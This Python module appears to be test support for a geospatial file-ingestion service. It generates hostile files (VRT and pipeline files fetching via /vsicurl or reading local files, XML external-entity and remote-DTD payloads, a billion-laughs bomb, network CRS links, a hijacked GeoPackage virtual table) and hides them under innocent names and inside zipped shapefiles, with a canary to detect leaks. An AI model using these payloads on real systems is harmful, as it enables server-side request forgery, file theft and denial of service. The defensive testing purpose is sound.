"""Files that ask their reader to look elsewhere: the net, or a file beside them.

`ALL` maps a name to a function of (address, path of the canary) that returns the
bytes of one such file: `PAYLOADS` here, those of `payloads_vector` and of
`payloads_raster`. `disguised` puts each under innocent names, bare and zipped.
"""

from __future__ import annotations

import codecs
import io
import json
import sqlite3
import tempfile
import zipfile
from contextlib import closing
from functools import cache
from pathlib import Path

import broken_files as make
import pyogrio
from payloads_raster import RASTER
from payloads_vector import VECTOR

CANARY = "CANARY-5e1f-do-not-tell"
EXTENSIONS = (".geojson", ".csv", ".txt", ".kml", ".gml", ".xlsx", ".tif", ".gpkg")
ZIPPED = (".shp", ".geojson", ".kml", ".tif")


def vrt(source, *, attributes=""):
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"{attributes}>'
        f"<SrcDataSource>{source}</SrcDataSource><SrcLayer>canary</SrcLayer>"
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def raster_vrt(source):
    return (
        '<VRTDataset rasterXSize="20" rasterYSize="1">'
        '<VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand">'
        f'<SourceFilename relativetoVRT="0">{source}</SourceFilename>'
        "<ImageOffset>0</ImageOffset></VRTRasterBand></VRTDataset>"
    ).encode()


def pipeline(source, **more):
    line = f"gdal vector pipeline ! read {source} ! limit 5"
    return json.dumps(
        {**more, "type": "gdal_streamed_alg", "command_line": line}
    ).encode()


def entity(source, *, root="kml"):
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "{source}">]>'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark>'
        "<name>&x;</name><Point><coordinates>107,40</coordinates></Point>"
        "</Placemark></Document></kml>"
    ).encode()


def laughs():
    steps = "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' if i else '<!ENTITY l0 "ha">'
        for i in range(10)
    )
    return (
        f'<?xml version="1.0"?><!DOCTYPE kml [{steps}]><kml xmlns='
        '"http://www.opengis.net/kml/2.2"><Document><name>&l9;</name></Document></kml>'
    ).encode()


def gml(address):
    return (
        '<?xml version="1.0"?><wfs:FeatureCollection '
        'xmlns:wfs="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://x {address}/x.xsd"><gml:featureMember>'
        f'<x fid="1"><gml:pointProperty xlink:href="{address}/p" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"/></x></gml:featureMember>'
        "</wfs:FeatureCollection>"
    ).encode()


def geojson(crs):
    feature = {"type": "Feature", "properties": {"a": 1}, "geometry": make.GOOD}
    return json.dumps(
        {"type": "FeatureCollection", "crs": crs, "features": [feature]}
    ).encode()


def virtual_table(source):
    """A GeoPackage whose table is a window on another file."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "z.gpkg"
        pyogrio.write_dataframe(make.zones(), path, layer="z")
        with closing(sqlite3.connect(path)) as db:
            db.execute("PRAGMA writable_schema = ON")
            db.execute("DELETE FROM sqlite_master WHERE tbl_name = 'z'")
            db.execute(
                "INSERT INTO sqlite_master VALUES ('table', 'z', 'z', 0, ?)",
                (f"CREATE VIRTUAL TABLE z USING VirtualOGR('{source}')",),
            )
            db.commit()
        return path.read_bytes()


PADDING = b"<!--" + b" " * 70_000 + b"-->"
WMS = (
    '<GDAL_WMS><Service name="TMS"><ServerUrl>{0}/${{z}}</ServerUrl></Service>'
    "</GDAL_WMS>"
)
PAYLOADS = {
    "vrt_net": lambda net, _: vrt(f"/vsicurl/{net}/x.geojson"),
    "vrt_file": lambda _, file: vrt(f"CSV:{file}"),
    "vrt_net_with_bom": lambda net, _: codecs.BOM_UTF8 + vrt(f"/vsicurl/{net}/x.csv"),
    "vrt_net_after_a_header": lambda net, _: (
        b'<?xml version="1.0"?>\n\n' + vrt(f"/vsicurl/{net}/x.csv")
    ),
    "vrt_file_after_64_kib": lambda _, file: PADDING + vrt(f"CSV:{file}"),
    "vrt_net_in_utf16": lambda net, _: (
        vrt(f"/vsicurl/{net}/x.csv").decode().encode("utf-16")
    ),
    "vrt_schema_from_net": lambda net, _: vrt(
        "@dummy@", attributes=f' xsi:noNamespaceSchemaLocation="{net}/x.xsd"'
    ),
    "raster_vrt_file": lambda _, file: raster_vrt(file),
    "raster_vrt_net": lambda net, _: raster_vrt(f"/vsicurl/{net}/x.tif"),
    "pipeline_net": lambda net, _: pipeline(f"/vsicurl/{net}/x.geojson"),
    "pipeline_file": lambda _, file: pipeline(f"CSV:{file}"),
    "pipeline_after_64_kib": lambda net, _: pipeline(
        f"/vsicurl/{net}/x.geojson", a=" " * 70_000
    ),
    "wms": lambda net, _: WMS.format(net).encode(),
    "wfs": lambda net, _: (
        f"<OGRWFSDataSource><URL>{net}/wfs</URL></OGRWFSDataSource>".encode()
    ),
    "entity_file": lambda _, file: entity(file.as_uri()),
    "entity_net": lambda net, _: entity(f"{net}/x"),
    "remote_dtd": lambda net, _: (
        f'<?xml version="1.0"?><!DOCTYPE kml SYSTEM "{net}/x.dtd"><kml/>'.encode()
    ),
    "billion_laughs": lambda *_: laughs(),
    "network_link": lambda net, _: (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>'
        f"{net}/x.kml</href></Link></NetworkLink></kml>"
    ).encode(),
    "gml_schema": lambda net, _: gml(net),
    "crs_link": lambda net, _: geojson(
        {"type": "link", "properties": {"href": f"{net}/crs", "type": "proj4"}}
    ),
    "crs_name_net": lambda net, _: geojson(
        {"type": "name", "properties": {"name": f"{net}/crs"}}
    ),
    "crs_name_file": lambda _, file: geojson(
        {"type": "name", "properties": {"name": f"+init={file}:1"}}
    ),
    "crs_grid_file": lambda _, file: geojson(
        {
            "type": "name",
            "properties": {"name": f"+proj=longlat +nadgrids={file} +type=crs"},
        }
    ),
    "virtual_table": lambda _, file: virtual_table(file),
}


ALL = {**PAYLOADS, **{name: make for name, (_, make) in VECTOR.items()}, **RASTER}


def disguised(name, data, folder):
    """Yield a payload under innocent names, bare and inside a zip.

    Under every name in `PAYLOADS`; under its own and the most likely ones elsewhere.
    """
    if name in PAYLOADS:
        yield from _everywhere(name, data, folder)
        return
    own = [VECTOR[name][0]] if name in VECTOR else [".tiff"]
    for extension in dict.fromkeys((*own, ".tif", ".geojson")):
        path = folder / f"{name}{extension}"
        path.write_bytes(data)
        yield path
    for extension in (own[0], ".tif"):
        path = folder / f"{name}_{extension[1:]}.zip"
        path.write_bytes(_zip({f"{name}{extension}": data}))
        yield path


def _everywhere(name, data, folder):
    """Yield a payload under every name, and as each part of a Shapefile."""
    for extension in EXTENSIONS:
        path = folder / f"{name}{extension}"
        path.write_bytes(data)
        yield path
    for extension in ZIPPED:
        path = folder / f"{name}_{extension[1:]}.zip"
        path.write_bytes(_zip({f"{name}{extension}": data}))
        yield path
    # a whole Shapefile, one part of which is not what it is called
    for extension in (".shp", ".prj", ".cpg"):
        parts = _sound_parts() | {extension: data}
        path = folder / f"{name}_as_{extension[1:]}.zip"
        path.write_bytes(_zip({f"a{one}": part for one, part in parts.items()}))
        yield path
        for one, part in parts.items():
            (folder / f"{name}_{extension[1:]}{one}").write_bytes(part)
        yield folder / f"{name}_{extension[1:]}.shp"


@cache
def _sound_parts():
    with tempfile.TemporaryDirectory() as folder:
        path = make.shapefile(Path(folder), "sound")
        suffixes = (".shp", ".shx", ".dbf", ".prj", ".cpg")
        return {one: path.with_suffix(one).read_bytes() for one in suffixes}


def _zip(members):
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return sink.getvalue()
